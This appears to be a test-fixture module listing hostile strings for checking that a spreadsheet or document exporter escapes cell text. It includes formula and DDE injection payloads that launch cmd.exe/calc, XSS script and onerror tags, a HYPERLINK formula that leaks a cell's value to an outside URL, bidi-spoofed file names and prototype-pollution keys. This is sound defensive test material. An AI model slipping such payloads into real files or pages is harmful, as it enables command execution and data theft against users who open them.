/** Texts that somebody might put into a cell to break out of it, or that a program may stumble over. */

/** What XML 1.0 has no room for (2.2), among it halves of characters. */
export const UNWRITABLE_TEXTS = [
  'a\u0000b',
  'a\u0008b',
  'a\u001b[31mb',
  'a\ufffeb',
  'a\uffffb',
  'a\ud800b',
  '\udc00',
];

/** What turns the direction of writing, or hides. */
export const MISLEADING_TEXTS = [
  '\u202egnp.exe',
  'a\u2066b\u2069',
  'a\u200eb',
  'a\u2028b',
  'a\u0085b',
  'a\u009b31mb',
];

/** What a spreadsheet would take for a formula, a word processor for a field, a browser for markup. */
export const INJECTED_TEXTS = [
  '=HYPERLINK("http://example.com/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '{=1+1}',
  '{{recommendations}}',
  '\ufdd0recommendations\ufdd1',
  '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  ']]></t><f>1+1</f>',
  '&lt;b&gt; &#x202e; _x0041_ %0d%0aBEGIN:VALARM',
  'a\r\nBEGIN:VEVENT\r\nSUMMARY:b',
  "'quoted",
  '&A&D&"Arial"&20',
];

/** What objects of the language have of their own. */
export const PROTOTYPE_TEXTS = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
];

export const HOSTILE_TEXTS = [
  ...UNWRITABLE_TEXTS,
  ...MISLEADING_TEXTS,
  ...INJECTED_TEXTS,
  ...PROTOTYPE_TEXTS,
];
